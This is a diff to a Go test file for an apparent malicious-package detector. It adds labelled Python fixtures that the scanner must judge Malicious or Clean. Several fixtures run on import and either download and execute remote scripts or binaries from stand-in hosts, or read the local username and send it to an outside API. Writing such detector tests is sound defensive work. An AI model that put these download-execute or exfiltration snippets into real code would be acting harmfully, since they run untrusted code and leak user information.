@@ -50,6 +50,17 @@ func TestPopularProjectShapes(t *testing.T) {
 		{"a script from a paste site run by an interpreter found at run time", map[string]string{"p/__init__.py": "" +
 			"import shutil, subprocess, requests\npath = '/tmp/x.pyw'\nwith open(path, 'w') as f:\n    f.write(requests.get('https://pastebin.com/raw/abc').text)\n" +
 			"subprocess.Popen([shutil.which('pythonw'), path])\n"}, "download-execute", Malicious},
+		{"a shell started on a settings file beside an unrelated download, names shared by two functions, on import", map[string]string{"p/__init__.py": "" +
+			"import os, tempfile, urllib.request\ndef save(fn, text):\n    with open(fn, 'w') as f:\n        f.write(text)\n" +
+			"def fetch(url):\n    return urllib.request.urlopen(url).read()\n" +
+			"def shell(env):\n    fn = os.path.expanduser('~/.p_rc')\n    save(fn, 'export X=' + env)\n    os.system('bash --rcfile ' + fn)\n" +
+			"INDEX = fetch('https://example.invalid/index.json')\nshell('1')\n"}, "", Clean},
+		{"a download written and run by one function on import", map[string]string{"p/__init__.py": "" +
+			"import os, tempfile, urllib.request\ndef run(url):\n    fn = tempfile.mktemp()\n    with open(fn, 'w') as f:\n        f.write(urllib.request.urlopen(url).read().decode())\n" +
+			"    os.system('bash ' + fn)\nrun('https://example.invalid/x.sh')\n"}, "download-execute", Malicious},
+		{"a helper returning the path it downloaded to, run by another helper on import", map[string]string{"p/__init__.py": "" +
+			"import os, urllib.request\ndef download(url):\n    path = os.path.expanduser('~/.cache/bin.exe')\n    with open(path, 'wb') as out:\n        out.write(urllib.request.urlopen(url).read())\n    return path\n" +
+			"def run(path):\n    os.system(f'start {path}')\nrun(download('https://example.invalid/b'))\n"}, "download-execute", Malicious},
 		{"a package index handing a download to the VCS it names", map[string]string{"p/package_index.py": "" +
 			"import subprocess, urllib.request\ndef fetch(url, filename):\n    with open(filename, 'wb') as f:\n        f.write(urllib.request.urlopen(url).read())\n" +
 			"def clone(vcs, url, filename):\n    subprocess.check_call([vcs, 'clone', '--quiet', url, filename])\n"}, "", Clean},
@@ -113,6 +124,15 @@ func TestPopularProjectShapes(t *testing.T) {
 			"    client = paramiko.SSHClient()\n    client.load_system_host_keys()\n    client.set_missing_host_key_policy(paramiko.WarningPolicy())\n" +
 			"    client.connect(server, port, username=username, key_filename=keyfile)\n    return True\n" +
 			"OK = try_passwordless('localhost')\n"}, "", Clean},
+		{"a login prompt offering the local user name, then calling the service, on import", map[string]string{"p/__init__.py": "" +
+			"import getpass, urllib.request\ndef login():\n    name = getpass.getuser()\n    name = input('GitHub username [{0}]: '.format(name)) or name\n" +
+			"    token = getpass.getpass('token: ')\n    return name, token\n" +
+			"def api(path, auth):\n    return urllib.request.urlopen(urllib.request.Request('https://api.example.invalid' + path, headers={'Authorization': auth}))\n" +
+			"CREDS = login()\nME = api('/rate_limit', 'token')\n"}, "", Clean},
+		{"the user name taken on import beside a prompt that does not offer it", map[string]string{"p/__init__.py": "" +
+			"import getpass, urllib.request\ndef login():\n    name = getpass.getuser()\n    answer = input('continue? ')\n    return name, answer\n" +
+			"def api(path):\n    return urllib.request.urlopen(urllib.request.Request('https://api.example.invalid' + path))\n" +
+			"CREDS = login()\nME = api('/user')\n"}, "exfiltrates-host-info", Malicious},
 		{"the local address found by a UDP connect on import", map[string]string{"p/__init__.py": "" +
 			"import socket\ndef get_ip(host='8.8.8.8'):\n    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    try:\n        sock.connect((host, 80))\n        return sock.getsockname()[0]\n" +
 			"    except OSError:\n        return socket.gethostbyname(socket.gethostname())\nIP = get_ip()\n"}, "", Clean},
